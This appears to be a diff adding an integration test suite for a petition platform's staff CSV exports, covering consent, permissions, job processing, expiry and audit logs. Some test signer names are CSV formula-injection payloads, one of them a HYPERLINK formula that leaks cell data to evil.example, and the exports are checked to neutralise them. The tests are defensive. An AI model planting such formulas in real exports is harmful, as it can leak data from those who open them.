@@ -1,0 +1,464 @@
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { sql } from 'drizzle-orm';
+import request from 'supertest';
+import { queryRows } from '../../src/db/client';
+import { tallyCampaign } from '../../src/petitions/tallies';
+import type { RepresentativeData } from '../../src/representatives/districts';
+import { importRepresentativeData } from '../../src/representatives/import';
+import { placeLabel } from '../../src/representatives/labels';
+import { stateNames } from '../../src/representatives/us-states';
+import {
+  DIRECT_EXPORT_MAX_ROWS,
+  exportCsv,
+  exportFilePath,
+  exportsDir,
+  expireExports,
+  requeueExports,
+  writeExportFile,
+} from '../../src/staff/exports';
+import { createTestPlatform, eventually, type TestPlatform } from '../helpers/platform';
+import { signInAs } from '../helpers/staff';
+
+/**
+ * Staff exports on PostgreSQL: each export's rows checked against the database row by row,
+ * consent (no email without opt-in), CSV injection neutralised, permissions, the job path for a
+ * large signature export (worker, progress, download, retry, expiry) and the audit trail.
+ */
+const slug = 'ban-facial-recognition';
+const exportsPage = `/staff/campaigns/${slug}/exports`;
+let t: TestPlatform;
+let campaignId: number;
+let data: RepresentativeData;
+
+type Csv = Array<Record<string, string>>;
+const parseCsv = (text: string): Csv => parse(text, { columns: true, skip_empty_lines: false }) as Csv;
+
+/** What a spreadsheet must not read as a formula gets a leading apostrophe (the test's own rule). */
+const neutral = (value: string | null) => (value === null ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+
+const signers = [
+  { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', email: 'formula@example.org', zip: '80010', optIn: true },
+  { name: '+1', email: 'plus@example.org', zip: '80010', optIn: false },
+  { name: '-2', email: 'minus@example.org', zip: '80020', optIn: true, source: 'partner-x' },
+  { name: '@SUM(A1:A9)', email: 'at@example.org', zip: '80020', optIn: false, source: 'partner-x' },
+  { name: 'Ida "B." Wells, Jr.', email: 'ida@example.org', zip: '99501', optIn: true, source: 'partner-y' },
+  { name: 'Grace Hopper', email: 'grace@example.org', zip: '20001', optIn: false },
+  { name: 'Zoë Ünicode', email: 'zoe@example.org', zip: '80010', optIn: true, source: 'partner-x' },
+  { name: 'No District', email: 'nodistrict@example.org', zip: '80999', optIn: true },
+];
+
+beforeAll(async () => {
+  t = await createTestPlatform();
+  campaignId = (await t.platform.campaigns.bySlug(slug))!.id;
+  await importRepresentativeData(t.platform.db, path.join(__dirname, '..', 'fixtures', 'representatives'));
+  data = (await t.platform.representatives.refresh())!;
+  await t.platform.db.execute(sql`INSERT INTO partners (campaign_id, name, source_code) VALUES (${campaignId}, '=Partner X', 'partner-x')`);
+  for (const signer of signers) {
+    await request(t.app).post(`/api/v1/campaigns/${slug}/signatures`).send(signer).expect(202);
+  }
+  // Cells starting with a tab or a carriage return cannot come through the forms; older data might hold them.
+  await t.platform.db.execute(sql`
+    INSERT INTO signatures (campaign_id, email, name, zip, state, opt_in)
+    VALUES (${campaignId}, 'tab@example.org', ${'\tTabbed'}, '80010', 'CO', true),
+           (${campaignId}, 'cr@example.org', ${'\rReturned'}, '80010', 'CO', false)`);
+  await tallyCampaign(t.platform.db, campaignId, { districtsOf: (zip) => t.platform.representatives.districtsOfZip(zip) });
+});
+afterAll(() => t.close());
+
+interface SignatureRow {
+  id: string;
+  name: string;
+  email: string;
+  zip: string;
+  state: string | null;
+  congressional_district: string | null;
+  state_upper_district: string | null;
+  state_lower_district: string | null;
+  source: string | null;
+  opt_in: boolean;
+  created_at: Date | string;
+}
+
+/** The signature export as it should be, computed here from the table and the representative data. */
+async function expectedSignatures(forCampaign: number, withData: RepresentativeData | null): Promise<Csv> {
+  const rows = await queryRows<SignatureRow>(t.platform.db, sql`SELECT * FROM signatures WHERE campaign_id = ${forCampaign} ORDER BY id`);
+  return rows.map((row) => {
+    const districts = withData?.describe({ cd: row.congressional_district, sldu: row.state_upper_district, sldl: row.state_lower_district });
+    return {
+      name: neutral(row.name),
+      email: row.opt_in ? neutral(row.email) : '',
+      zip: neutral(row.zip),
+      state: neutral(row.state),
+      congressional_district: districts?.congressional ? placeLabel({ congressional: districts.congressional, stateUpper: null, stateLower: null }) : (row.congressional_district ?? ''),
+      state_senate_geoid: neutral(row.state_upper_district),
+      state_house_geoid: neutral(row.state_lower_district),
+      source: neutral(row.source),
+      opted_in: row.opt_in ? 'yes' : 'no',
+      signed_at: `${new Date(row.created_at).toISOString().slice(0, 19)}Z`,
+    };
+  });
+}
+
+async function grouped(column: string): Promise<Array<{ key: string; count: number }>> {
+  const rows = await queryRows<{ key: string; count: string }>(
+    t.platform.db,
+    sql.raw(`SELECT ${column} AS key, count(*) AS count FROM signatures WHERE campaign_id = ${campaignId} AND ${column} IS NOT NULL GROUP BY 1 ORDER BY 1`),
+  );
+  return rows.map((row) => ({ key: row.key, count: Number(row.count) }));
+}
+
+const holders = (office: string, keys: { cd?: string; sldu?: string; sldl?: string }) =>
+  data
+    .officialsFor({ cd: keys.cd ?? null, sldu: keys.sldu ?? null, sldl: keys.sldl ?? null })
+    .filter((official) => official.office === office && !official.vacant);
+
+const postExport = (agent: ReturnType<typeof request.agent>, token: string, kind: string, page = exportsPage) =>
+  agent.post(page).type('form').send({ _csrf: token, kind });
+
+describe('direct exports (streamed in the response)', () => {
+  let organizer: Awaited<ReturnType<typeof signInAs>>;
+  beforeAll(async () => {
+    organizer = await signInAs(t.app, t.platform.db, 'organizer');
+  });
+
+  it('exports signatures row by row as the database holds them, with consent and CSV injection handled', async () => {
+    const res = await postExport(organizer.agent, organizer.token, 'signatures').expect(200);
+    expect(res.headers['content-type']).toMatch(/^text\/csv/);
+    expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="?${slug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`));
+    expect(res.headers['cache-control']).toBe('no-store');
+
+    const rows = parseCsv(res.text);
+    expect(rows).toEqual(await expectedSignatures(campaignId, data));
+    expect(rows).toHaveLength(signers.length + 2);
+
+    const byEmail = (email: string) => rows.find((row) => row.name === neutral(signers.find((s) => s.email === email)?.name ?? null))!;
+    // Formula-like names are neutralised; everything else is left as it was.
+    expect(rows.map((row) => row.name)).toEqual(
+      expect.arrayContaining(["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+1", "'-2", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturned", 'Ida "B." Wells, Jr.', 'Zoë Ünicode']),
+    );
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(byEmail('minus@example.org').source).toBe('partner-x');
+
+    // Consent: an email address only for those who opted in.
+    for (const signer of signers.filter((s) => !s.optIn)) expect(res.text).not.toContain(signer.email);
+    expect(res.text).not.toContain('cr@example.org');
+    expect(byEmail('formula@example.org')).toMatchObject({ email: 'formula@example.org', opted_in: 'yes' });
+    expect(byEmail('plus@example.org')).toMatchObject({ email: '', opted_in: 'no' });
+
+    // Districts as people name them, including at-large and delegate seats.
+    expect(byEmail('formula@example.org')).toMatchObject({
+      congressional_district: 'CO-1',
+      state_senate_geoid: '08001',
+      state_house_geoid: '08001',
+    });
+    expect(byEmail('ida@example.org').congressional_district).toBe('AK at-large');
+    expect(byEmail('grace@example.org').congressional_district).toBe('DC (delegate seat)');
+    expect(byEmail('nodistrict@example.org')).toMatchObject({ congressional_district: '', state_senate_geoid: '' });
+
+    // Recorded: the export (done, not kept) and who made it, with no supporter's data in the audit log.
+    const [record] = await queryRows<{ id: string; status: string; rows_written: string; rows_total: string; bytes: string; expires_at: Date | null }>(
+      t.platform.db,
+      sql`SELECT * FROM staff_exports WHERE campaign_id = ${campaignId} AND kind = 'signatures' ORDER BY created_at DESC LIMIT 1`,
+    );
+    expect(record).toMatchObject({ status: 'ready', expires_at: null });
+    expect(Number(record!.rows_written)).toBe(rows.length);
+    expect(Number(record!.rows_total)).toBe(rows.length);
+    expect(Number(record!.bytes)).toBe(Buffer.byteLength(res.text));
+    const [audit] = await queryRows<{ actor: string; action: string; campaign_id: number; details: Record<string, unknown> }>(
+      t.platform.db,
+      sql`SELECT actor, action, campaign_id, details FROM audit_log WHERE action = 'export.signatures' AND details->>'exportId' = ${record!.id}`,
+    );
+    expect(audit).toEqual({
+      actor: organizer.email,
+      action: 'export.signatures',
+      campaign_id: campaignId,
+      details: { exportId: record!.id, rows: rows.length, delivery: 'download' },
+    });
+    for (const signer of signers) {
+      expect(JSON.stringify(audit)).not.toContain(signer.email);
+      expect(t.logs()).not.toContain(signer.email);
+    }
+  });
+
+  it('counts by congressional district, with the member of each seat', async () => {
+    const res = await postExport(organizer.agent, organizer.token, 'congressional').expect(200);
+    const rows = parseCsv(res.text);
+    const expected = (await grouped('congressional_district')).map(({ key, count }) => {
+      const district = data.describe({ cd: key, sldu: null, sldl: null }).congressional!;
+      const members = holders('us-house', { cd: key }).map((official) => official.name!).sort();
+      return {
+        state: district.state,
+        district: placeLabel({ congressional: district, stateUpper: null, stateLower: null }),
+        representative: neutral(members.join('; ') || null),
+        party: neutral(holders('us-house', { cd: key }).sort((a, b) => a.name!.localeCompare(b.name!)).map((o) => o.party ?? '').join('; ') || null),
+        signatures: String(count),
+        geoid: key,
+      };
+    });
+    expect(rows).toEqual(expected);
+    expect(rows.map((row) => row.district)).toEqual(['AK at-large', 'CO-1', 'CO-2', 'DC (delegate seat)']);
+    expect(rows.find((row) => row.district === 'CO-1')).toMatchObject({ representative: 'Ada Testwell' });
+    expect(rows.find((row) => row.district === 'AK at-large')).toMatchObject({ representative: 'Elin Northerly', party: 'Republican' });
+    expect(rows.find((row) => row.district === 'DC (delegate seat)')).toMatchObject({ representative: 'Gail Capitoline' });
+  });
+
+  it.each([
+    ['state-upper', 'state_upper_district', 'sldu'],
+    ['state-lower', 'state_lower_district', 'sldl'],
+  ] as const)('counts by %s district, with its legislators', async (kind, column, layer) => {
+    const res = await postExport(organizer.agent, organizer.token, kind).expect(200);
+    const rows = parseCsv(res.text);
+    const expected = (await grouped(column)).map(({ key, count }) => {
+      const described = data.describe({ cd: null, sldu: layer === 'sldu' ? key : null, sldl: layer === 'sldl' ? key : null });
+      const district = layer === 'sldu' ? described.stateUpper! : described.stateLower!;
+      const seats = district.seats;
+      const legislators = holders(kind, { [layer]: key }).sort(
+        (a, b) => seats.indexOf(a.district!) - seats.indexOf(b.district!) || a.name!.localeCompare(b.name!),
+      );
+      return {
+        state: district.state,
+        district: neutral(district.name),
+        legislators: neutral(legislators.map((official) => official.name).join('; ') || null),
+        party: neutral(legislators.map((official) => official.party ?? '').join('; ') || null),
+        signatures: String(count),
+        geoid: key,
+      };
+    });
+    expect(rows).toEqual(expected);
+    expect(rows.length).toBeGreaterThan(0);
+  });
+
+  it('counts by state and by source (with the partner, and the signatures with no source)', async () => {
+    const states = parseCsv((await postExport(organizer.agent, organizer.token, 'state').expect(200)).text);
+    expect(states).toEqual((await grouped('state')).map(({ key, count }) => ({ state: key, state_name: stateNames.get(key), signatures: String(count) })));
+
+    const sources = parseCsv((await postExport(organizer.agent, organizer.token, 'source').expect(200)).text);
+    const bySource = await grouped('source');
+    const [none] = await queryRows<{ count: string }>(
+      t.platform.db,
+      sql`SELECT count(*) AS count FROM signatures WHERE campaign_id = ${campaignId} AND source IS NULL`,
+    );
+    const partnerNames: Record<string, string> = { 'partner-x': "'=Partner X" };
+    expect(sources).toEqual([
+      ...bySource
+        .sort((a, b) => b.count - a.count || a.key.localeCompare(b.key))
+        .map(({ key, count }) => ({ source: key, partner: partnerNames[key] ?? '', signatures: String(count) })),
+      { source: '', partner: "No source code (the campaign's own pages and links)", signatures: String(Number(none!.count)) },
+    ]);
+  });
+
+  it('refuses an unknown export with a 400 and records nothing', async () => {
+    const before = await queryRows<{ n: string }>(t.platform.db, sql`SELECT count(*) AS n FROM staff_exports`);
+    const res = await postExport(organizer.agent, organizer.token, 'everything').expect(400);
+    expect(res.text).toContain('Choose what to export.');
+    await postExport(organizer.agent, organizer.token, '').expect(400);
+    await organizer.agent.post(exportsPage).type('form').send({ _csrf: organizer.token }).expect(400);
+    const after = await queryRows<{ n: string }>(t.platform.db, sql`SELECT count(*) AS n FROM staff_exports`);
+    expect(after[0]!.n).toBe(before[0]!.n);
+    // Without the form's CSRF token, nothing starts either.
+    await organizer.agent.post(exportsPage).type('form').send({ kind: 'state' }).expect(403);
+  });
+
+  it('lets a viewer export counts but not signatures', async () => {
+    const viewer = await signInAs(t.app, t.platform.db, 'viewer');
+    const page = await viewer.agent.get(exportsPage).expect(200);
+    expect(page.text).toMatch(/id="kind-signatures"[^>]*disabled/);
+    expect(page.text).not.toMatch(/id="kind-congressional"[^>]*disabled/);
+    await postExport(viewer.agent, viewer.token, 'congressional').expect(200);
+    await postExport(viewer.agent, viewer.token, 'signatures').expect(403);
+    const [audit] = await queryRows<{ n: string }>(
+      t.platform.db,
+      sql`SELECT count(*) AS n FROM audit_log WHERE actor = ${viewer.email} AND action = 'export.signatures'`,
+    );
+    expect(Number(audit!.n)).toBe(0);
+  });
+
+  it('sends a visitor who is not signed in to the login page', async () => {
+    const res = await request(t.app).get(exportsPage).expect(303);
+    expect(res.headers.location).toMatch(/^\/staff\/login/);
+  });
+});
+
+describe('a large signature export (a job, into a file)', () => {
+  const bigSlug = 'big-export';
+  const bigPage = `/staff/campaigns/${bigSlug}/exports`;
+  let bigId: number;
+  let exportId: string;
+  let organizer: Awaited<ReturnType<typeof signInAs>>;
+  const total = DIRECT_EXPORT_MAX_ROWS + 1;
+
+  beforeAll(async () => {
+    organizer = await signInAs(t.app, t.platform.db, 'organizer');
+    const [campaign] = await queryRows<{ id: number }>(
+      t.platform.db,
+      sql`INSERT INTO campaigns (slug, title, summary, petition_text, goal) VALUES (${bigSlug}, 'Big export', 'Many signatures.', 'Text.', 100000) RETURNING id`,
+    );
+    bigId = campaign!.id;
+    // Counted already, so the workers' start-up sweep has nothing to tally here.
+    await t.platform.db.execute(sql`
+      INSERT INTO signatures (campaign_id, email, name, zip, state, congressional_district, source, opt_in, tallied, created_at)
+      SELECT ${bigId}, 'big-' || g || '@example.org',
+             CASE g % 5 WHEN 0 THEN '=cmd|' || g WHEN 1 THEN '+' || g WHEN 2 THEN 'Signer, ' || g ELSE 'Signer "' || g || '"' END,
+             lpad((g % 99999)::text, 5, '0'), 'CO', CASE WHEN g % 3 = 0 THEN '0801' END,
+             CASE WHEN g % 7 = 0 THEN '-src' END, g % 2 = 0, true, now() - make_interval(secs => g)
+      FROM generate_series(1, ${total}) AS g`);
+  });
+
+  it('is queued, written by the worker with its progress, then downloaded as the database holds it', async () => {
+    const started = await postExport(organizer.agent, organizer.token, 'signatures', bigPage).expect(303);
+    const [record] = await queryRows<{ id: string; status: string; rows_total: string }>(
+      t.platform.db,
+      sql`SELECT id, status, rows_total FROM staff_exports WHERE campaign_id = ${bigId}`,
+    );
+    exportId = record!.id;
+    expect(started.headers.location).toBe(`${bigPage}#export-${exportId}`);
+    expect(record).toMatchObject({ status: 'queued' });
+    expect(Number(record!.rows_total)).toBe(total);
+
+    // Asking again while it waits starts nothing new.
+    await postExport(organizer.agent, organizer.token, 'signatures', bigPage).expect(303);
+    const [count] = await queryRows<{ n: string }>(t.platform.db, sql`SELECT count(*) AS n FROM staff_exports WHERE campaign_id = ${bigId}`);
+    expect(Number(count!.n)).toBe(1);
+
+    const page = await organizer.agent.get(bigPage).expect(200);
+    expect(page.text).toContain(`data-export-id="${exportId}" data-status="queued"`);
+    expect(page.text).toMatch(/<progress max="50001" value="0"/);
+    expect(page.text).toContain('/static/js/export-progress.js');
+    const progress = await organizer.agent.get(`${bigPage}/progress`).expect(200);
+    expect(progress.body.exports).toEqual([{ id: exportId, status: 'queued', rowsWritten: 0, rowsTotal: total }]);
+    await organizer.agent.get(`/staff/exports/${exportId}/download`).expect(409);
+
+    await t.startWorkers();
+    await eventually(async () => {
+      const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${exportId}`);
+      expect(row!.status).not.toBe('failed');
+      return row!.status === 'ready';
+    }, 60_000);
+
+    const [ready] = await queryRows<{ rows_written: string; bytes: string; expires_at: Date; finished_at: Date }>(
+      t.platform.db,
+      sql`SELECT rows_written, bytes, expires_at, finished_at FROM staff_exports WHERE id = ${exportId}`,
+    );
+    expect(Number(ready!.rows_written)).toBe(total);
+    expect(new Date(ready!.expires_at).getTime() - new Date(ready!.finished_at).getTime()).toBe(24 * 60 * 60 * 1000);
+    const file = exportFilePath(t.platform.config.dataDir, exportId);
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    expect(statSync(file).size).toBe(Number(ready!.bytes));
+
+    const done = await organizer.agent.get(bigPage).expect(200);
+    expect(done.text).toContain(`href="/staff/exports/${exportId}/download"`);
+
+    const download = await organizer.agent.get(`/staff/exports/${exportId}/download`).buffer(true).expect(200);
+    expect(download.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="?${bigSlug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`));
+    expect(download.headers['cache-control']).toBe('no-store');
+    expect(download.headers['content-type']).toMatch(/^text\/csv/);
+    const rows = parseCsv(download.text);
+    expect(rows).toHaveLength(total);
+    expect(rows).toEqual(await expectedSignatures(bigId, data));
+    expect(rows.filter((row) => row.name!.startsWith("'=cmd|"))).toHaveLength(Math.floor(total / 5));
+    expect(rows.filter((row) => row.source === "'-src").length).toBeGreaterThan(0);
+
+    const audits = await queryRows<{ action: string; actor: string; details: Record<string, unknown> }>(
+      t.platform.db,
+      sql`SELECT action, actor, details FROM audit_log WHERE campaign_id = ${bigId} ORDER BY id`,
+    );
+    expect(audits).toEqual([
+      { action: 'export.signatures', actor: organizer.email, details: { exportId, rows: total, delivery: 'file' } },
+      { action: 'export.download', actor: organizer.email, details: { exportId, kind: 'signatures', rows: total } },
+    ]);
+
+    // A viewer may not download signatures, even with the link.
+    const viewer = await signInAs(t.app, t.platform.db, 'viewer');
+    await viewer.agent.get(`/staff/exports/${exportId}/download`).expect(403);
+    await organizer.agent.get('/staff/exports/not-an-export/download').expect(404);
+  });
+
+  it('writes the whole file again when its job runs again (after a crash)', async () => {
+    const file = exportFilePath(t.platform.config.dataDir, exportId);
+    const before = readFileSync(file, 'utf8');
+    writeFileSync(file, 'half a file');
+    await t.platform.db.execute(sql`UPDATE staff_exports SET status = 'running' WHERE id = ${exportId}`);
+    expect(await writeExportFile(t.platform, exportId)).toBe('written');
+    expect(readFileSync(file, 'utf8')).toBe(before);
+    const [row] = await queryRows<{ status: string; rows_written: string }>(t.platform.db, sql`SELECT status, rows_written FROM staff_exports WHERE id = ${exportId}`);
+    expect(row).toMatchObject({ status: 'ready' });
+    expect(Number(row!.rows_written)).toBe(total);
+    // A finished export is not written again by a stray job.
+    expect(await writeExportFile(t.platform, exportId)).toBe('skipped');
+  });
+
+  it('gives the pooled connection back when a reader abandons an export half-way', async () => {
+    const copy = exportCsv(t.platform.database, 'signatures', bigId);
+    for await (const chunk of copy.stream) {
+      expect((chunk as Buffer).length).toBeGreaterThan(0);
+      break;
+    }
+    await expect(copy.rows).rejects.toThrow(/abandoned/);
+    await eventually(async () => {
+      const running = await queryRows(t.platform.db, sql`SELECT pid FROM pg_stat_activity WHERE query LIKE 'COPY (%' AND state = 'active'`);
+      return running.length === 0;
+    });
+    // The pool still answers.
+    expect(await queryRows(t.platform.db, sql`SELECT 1 AS one`)).toEqual([{ one: 1 }]);
+  });
+
+  it('marks an export failed, with a message for the page, when its last try fails', async () => {
+    const failing = 'FFFFFFFFFFFFFFFFFFFFFFFF';
+    // A kind this version cannot write: its job fails on every try.
+    await t.platform.db.execute(sql`
+      INSERT INTO staff_exports (id, campaign_id, kind, status, rows_total) VALUES (${failing}, ${bigId}, 'everything', 'queued', 1)`);
+    await t.platform.queues.add('exports', 'export', { exportId: failing }, { attempts: 1 });
+    await eventually(async () => {
+      const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${failing}`);
+      return row!.status === 'failed';
+    });
+    const page = await organizer.agent.get(bigPage).expect(200);
+    expect(page.text).toContain('The export could not be written.');
+    await organizer.agent.get(`/staff/exports/${failing}/download`).expect(410);
+    await t.platform.db.execute(sql`DELETE FROM staff_exports WHERE id = ${failing}`);
+    expect(readdirSync(exportsDir(t.platform.config.dataDir)).filter((name) => name.startsWith(failing))).toEqual([]);
+  });
+
+  it('queues an export again when its job was lost with Redis', async () => {
+    const lost = 'LLLLLLLLLLLLLLLLLLLLLLLL';
+    await t.platform.db.execute(sql`
+      INSERT INTO staff_exports (id, campaign_id, kind, status, rows_total, created_at)
+      VALUES (${lost}, ${bigId}, 'state', 'queued', 1, now() - interval '10 minutes')`);
+    expect(await requeueExports(t.platform)).toBeGreaterThanOrEqual(1);
+    await eventually(async () => {
+      const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${lost}`);
+      return row!.status === 'ready';
+    });
+    expect(parseCsv(readFileSync(exportFilePath(t.platform.config.dataDir, lost), 'utf8'))).toEqual([]);
+    await t.platform.db.execute(sql`UPDATE staff_exports SET status = 'expired' WHERE id = ${lost}`);
+  });
+
+  it('removes the file when it expires, and any file no export is waiting for', async () => {
+    const file = exportFilePath(t.platform.config.dataDir, exportId);
+    expect(existsSync(file)).toBe(true);
+    const dir = exportsDir(t.platform.config.dataDir);
+    mkdirSync(dir, { recursive: true });
+    const leftover = path.join(dir, 'AAAAAAAAAAAAAAAAAAAAAAAA.0123abcd.part');
+    writeFileSync(leftover, 'left by a crash');
+    const hoursAgo = new Date(Date.now() - 2 * 60 * 60 * 1000);
+    utimesSync(leftover, hoursAgo, hoursAgo);
+
+    // Nothing has expired yet: only the leftover goes.
+    expect(await expireExports(t.platform)).toBe(1);
+    expect(existsSync(leftover)).toBe(false);
+    expect(existsSync(file)).toBe(true);
+
+    await t.platform.db.execute(sql`UPDATE staff_exports SET expires_at = now() - interval '1 minute' WHERE id = ${exportId}`);
+    expect(await expireExports(t.platform)).toBe(1);
+    expect(existsSync(file)).toBe(false);
+    const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${exportId}`);
+    expect(row!.status).toBe('expired');
+    const gone = await organizer.agent.get(`/staff/exports/${exportId}/download`).expect(410);
+    expect(gone.text).toContain('removed 24 hours after');
+    const page = await organizer.agent.get(bigPage).expect(200);
+    expect(page.text).not.toContain(`/staff/exports/${exportId}/download`);
+    expect(page.text).toContain('Expired');
+  });
+});
